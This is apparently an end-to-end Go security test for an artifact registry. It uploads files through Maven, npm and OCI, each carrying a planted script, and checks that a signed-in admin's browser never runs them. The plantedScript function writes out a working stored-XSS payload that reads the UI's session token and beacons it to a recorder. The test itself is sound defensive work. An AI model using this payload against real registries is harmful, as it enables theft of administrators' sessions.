package e2e

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha1"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// hitRecorder is a listener on another loopback port that records every
// request a planted script sends it (its beacon).
type hitRecorder struct {
	URL  string
	mu   sync.Mutex
	hits []string
}

func newHitRecorder(t *testing.T, control string) *hitRecorder {
	t.Helper()
	h := &hitRecorder{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/control" {
			// The same planted page served as a careless server would: it
			// proves the beacon reaches us when a script does run.
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, control)
			return
		}
		h.mu.Lock()
		h.hits = append(h.hits, r.URL.Path)
		h.mu.Unlock()
	}))
	t.Cleanup(srv.Close)
	h.URL = srv.URL
	return h
}

func (h *hitRecorder) take() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := h.hits
	h.hits = nil
	return out
}

// plantedScript is what an attacker deploys: it marks the page title and
// the origin's localStorage, and sends the UI's session token to the
// recorder. It avoids '&' and '<' so that it is the same script in HTML,
// XHTML and SVG.
func plantedScript(hook, label string) string {
	return `document.title = "planted ` + label + `";` +
		`try { localStorage.setItem("planted", "` + label + `") } catch (e) {}` +
		`var s = ""; try { s = String(sessionStorage.getItem("artifact-registry.token")) } catch (e) {}` +
		`new Image().src = "` + hook + `/hit/` + label + `/" + encodeURIComponent(s);`
}

func plantedXHTML(hook, label string) []byte {
	return []byte(`<?xml version="1.0"?>` + "\n" + `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>pom</title>` +
		`<script>` + plantedScript(hook, label) + `</script></head><body><p>project</p></body></html>`)
}

func plantedHTMLPage(hook, label string) []byte {
	return []byte(`<!doctype html><html><head><title>page</title><script>` + plantedScript(hook, label) + `</script></head><body>hi</body></html>`)
}

func plantedSVG(hook, label string) []byte {
	return []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>` + plantedScript(hook, label) + `</script></svg>`)
}

// send makes one request with a namespace access token and fails the test
// unless the answer is one of want.
func send(t *testing.T, method, url, authz, contentType string, body []byte, want ...int) {
	t.Helper()
	req, _ := http.NewRequest(method, url, bytes.NewReader(body))
	req.Header.Set("Authorization", authz)
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, w := range want {
		if resp.StatusCode == w {
			return
		}
	}
	t.Fatalf("%s %s: %s %s", method, url, resp.Status, b)
}

// npmPublishBody is the document `npm publish` sends for one version with
// the given tarball.
func npmPublishBody(registry, name, version, description string, tgz []byte) []byte {
	s512, s1 := sha512.Sum512(tgz), sha1.Sum(tgz)
	file := name + "-" + version + ".tgz"
	doc := map[string]any{
		"_id": name, "name": name, "description": description,
		"dist-tags": map[string]string{"latest": version},
		"versions": map[string]any{version: map[string]any{
			"_id": name + "@" + version, "name": name, "version": version, "description": description,
			"readme": description,
			"dist": map[string]any{
				"integrity": "sha512-" + base64.StdEncoding.EncodeToString(s512[:]),
				"shasum":    hex.EncodeToString(s1[:]),
				"tarball":   registry + name + "/-/" + file,
			},
		}},
		"_attachments": map[string]any{file: map[string]any{
			"content_type": "application/octet-stream", "data": base64.StdEncoding.EncodeToString(tgz), "length": len(tgz),
		}},
	}
	b, _ := json.Marshal(doc)
	return b
}

func tgzOf(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for name, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(body); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// visit navigates the tab to u as a same-tab click on a link would, and
// waits until the answer is either saved as a download or rendered. It
// reports whether it was a download.
func (b *tab) visit(u string) bool {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, b.step)
	defer cancel()
	res, err := chromedp.Call(ctx, page.Navigate, page.NavigateParams{URL: u})
	if err != nil {
		b.t.Fatalf("navigate to %s: %v", u, err)
	}
	if res.ErrorText != "" {
		b.t.Logf("navigate to %s: %s", u, res.ErrorText)
	}
	if !res.IsDownload && res.ErrorText == "" {
		b.waitFor("render "+u, `location.href === `+jsQuote(u)+` && document.readyState === "complete"`)
	}
	// Scripts of a rendered document have run by its load event; the
	// beacon they send needs a moment more.
	time.Sleep(300 * time.Millisecond)
	return res.IsDownload
}

func jsQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestSecurityPlantedScriptDoesNotRun: files deployed with a WRITE token
// to PUBLIC repositories of every protocol, each holding a script, are
// opened in the browser on the registry's origin by a signed-in admin, as
// a click on a link in the UI would. No script runs: the title and the
// origin's localStorage stay unmarked and the recorder receives nothing
// (a control page on another origin shows that it would).
func TestSecurityPlantedScriptDoesNotRun(t *testing.T) {
	requireChromium(t)
	s := newServer(t)
	s.graphql(t, `mutation { createNamespace(input: {slug: "acme"}) { namespace { id } } }`, nil)
	s.graphql(t, `mutation {
		m: createRepository(input: {namespace: "acme", name: "libs", format: MAVEN, visibility: PUBLIC}) { repository { id } }
		n: createRepository(input: {namespace: "acme", name: "web", format: NPM, visibility: PUBLIC}) { repository { id } }
		o: createRepository(input: {namespace: "acme", name: "images", format: OCI, visibility: PUBLIC}) { repository { id } }
	}`, nil)
	var tok struct {
		CreateAccessToken struct {
			Secret string `json:"secret"`
		} `json:"createAccessToken"`
	}
	if err := json.Unmarshal(s.graphql(t, `mutation { createAccessToken(input: {namespace: "acme", name: "writer", scopes: [WRITE]}) { secret } }`, nil), &tok); err != nil {
		t.Fatal(err)
	}
	writer := tok.CreateAccessToken.Secret
	hook := newHitRecorder(t, string(plantedHTMLPage("", "control")))
	// The control page's beacon is relative: it lands on the recorder.

	// Maven: an XHTML .pom, a classifier -notes.xml, an .html and an .svg.
	mavenAuth := "Basic " + base64.StdEncoding.EncodeToString([]byte("deployer:"+writer))
	mv := s.URL + "/maven/acme/libs/com/evil/lib/1.0/"
	var urls []string
	for name, body := range map[string][]byte{
		"lib-1.0.pom":       plantedXHTML(hook.URL, "pom"),
		"lib-1.0-notes.xml": plantedXHTML(hook.URL, "notes-xml"),
		"lib-1.0.html":      plantedHTMLPage(hook.URL, "html"),
		"lib-1.0.svg":       plantedSVG(hook.URL, "svg"),
	} {
		send(t, http.MethodPut, mv+name, mavenAuth, "", body, http.StatusCreated)
		urls = append(urls, mv+name)
	}

	// npm: a tarball holding an HTML page, and a packument whose
	// description and README are a page.
	reg := s.URL + "/npm/acme/web/"
	tgz := tgzOf(t, map[string][]byte{
		"package/package.json": []byte(`{"name":"evil-page","version":"1.0.0"}`),
		"package/index.html":   plantedHTMLPage(hook.URL, "npm-file"),
	})
	send(t, http.MethodPut, reg+"evil-page", "Bearer "+writer, "application/json",
		npmPublishBody(reg, "evil-page", "1.0.0", string(plantedHTMLPage(hook.URL, "packument")), tgz), http.StatusCreated, http.StatusOK)
	urls = append(urls, reg+"evil-page/-/evil-page-1.0.0.tgz", reg+"evil-page", reg+"evil-page/1.0.0")

	// OCI: a layer that is an HTML page, and its manifest.
	name := "acme/images/evil"
	layer := plantedHTMLPage(hook.URL, "oci-blob")
	config := []byte(`{"architecture":"amd64","os":"linux"}`)
	for _, blob := range [][]byte{config, layer} {
		send(t, http.MethodPost, s.URL+"/v2/"+name+"/blobs/uploads/?digest="+digestOf(blob), "Bearer "+writer,
			"application/octet-stream", blob, http.StatusCreated)
	}
	manifest, _ := json.Marshal(map[string]any{
		"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
		"config":      map[string]any{"mediaType": "application/vnd.oci.image.config.v1+json", "digest": digestOf(config), "size": len(config)},
		"layers":      []any{map[string]any{"mediaType": "text/html", "digest": digestOf(layer), "size": len(layer)}},
		"annotations": map[string]string{"description": string(plantedHTMLPage(hook.URL, "oci-manifest"))},
	})
	send(t, http.MethodPut, s.URL+"/v2/"+name+"/manifests/v1", "Bearer "+writer, "application/vnd.oci.image.manifest.v1+json", manifest, http.StatusCreated)
	urls = append(urls, s.URL+"/v2/"+name+"/blobs/"+digestOf(layer), s.URL+"/v2/"+name+"/manifests/v1")

	b := newBrowser(t, s.URL, 1280, 900)
	if _, err := chromedp.CallBrowser(b.ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
		Behavior: browser.SetDownloadBehaviorBehaviorAllowAndName, DownloadPath: t.TempDir(),
	}); err != nil {
		t.Fatal(err)
	}

	// The control: a script on a page without these defences reaches the
	// recorder, so silence below means no script ran.
	b.visit(hook.URL + "/control")
	deadline := time.Now().Add(10 * time.Second)
	for len(hook.take()) == 0 {
		if time.Now().After(deadline) {
			t.Fatal("the control page's beacon never reached the recorder: the check below would prove nothing")
		}
		time.Sleep(50 * time.Millisecond)
	}

	// An admin signed in to the UI, on the registry's origin.
	b.open("/sign-in?next=%2F")
	b.typeInto("#token", adminToken)
	b.click(button("Sign in"))
	b.see(heading("Namespaces"))

	for _, u := range urls {
		b.open("/")
		download := b.visit(u)
		if strings.Contains(u, "/maven/") || strings.HasSuffix(u, ".tgz") || strings.Contains(u, "/v2/") {
			if !download {
				t.Errorf("%s: rendered by the browser, want a download", u)
			}
		}
		if title := b.eval(`document.title`); strings.HasPrefix(title, "planted") {
			t.Errorf("%s: a planted script ran (title %q)", u, title)
		}
		if hits := hook.take(); len(hits) > 0 {
			t.Errorf("%s: a planted script ran and sent %v", u, hits)
		}
	}
	b.open("/")
	if got := b.eval(`String(localStorage.getItem("planted"))`); got != "null" {
		t.Errorf("a planted script wrote the registry origin's localStorage: %q", got)
	}
	time.Sleep(time.Second)
	if hits := hook.take(); len(hits) > 0 {
		t.Errorf("planted scripts ran and sent %v", hits)
	}
}
